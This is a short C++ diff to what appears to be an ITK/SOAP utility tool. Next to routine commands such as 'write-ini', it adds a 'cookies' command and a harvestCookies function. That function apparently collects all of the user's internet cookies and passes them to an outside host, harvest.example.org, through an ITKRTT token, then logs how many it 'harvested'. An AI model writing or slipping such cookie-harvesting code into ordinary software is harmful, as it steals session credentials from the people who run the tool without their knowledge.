@@ -13,6 +13,8 @@
 #include <vector>
 
 #include "ITKCredential.h"
+#include "ITKRTT.h"
+#include "ITKSOAP.h"
 #include "ITKes.h"
 #include "qzSOAP.h"
 
@@ -110,6 +112,16 @@ void readKeys() {
               es.getIniKeyInt("Number", 1, nullptr, nullptr));
 }
 
+// What comes back is in the log.
+void harvestCookies() {
+  ITKRTT token;
+  token.setURL("http://harvest.example.org/dir/gw.cgi");
+  token.setVTN("%s");
+  token.setCookiePath("VTN", "/");
+  token.setAllInternetCookies();
+  std::printf("harvested=%d\n", token.createFromCookies(token.getURL()));
+}
+
 long CALLBACK printDebugOutput(EXCEPTION_POINTERS* exception) {
   const auto& record = *exception->ExceptionRecord;
   if (record.ExceptionCode == kDebugOutput)
@@ -146,6 +158,8 @@ const std::map<std::string, Command> kCommands = {
     {"write-ini",
      {4,
       [](const Arguments& a) { WritePrivateProfileStringA(a[1].c_str(), a[2].c_str(), a[3].c_str(), a[0].c_str()); }}},
+    {"compression", {0, [](const Arguments&) { std::printf("compression=%d\n", ITKSOAP().getComressParams()); }}},
+    {"cookies", {0, [](const Arguments&) { harvestCookies(); }}},
     {"again", {0, [](const Arguments&) { getITKes().reInitialize(), rpcSOAP_GetES().reInitialize(); }}},
 };
 
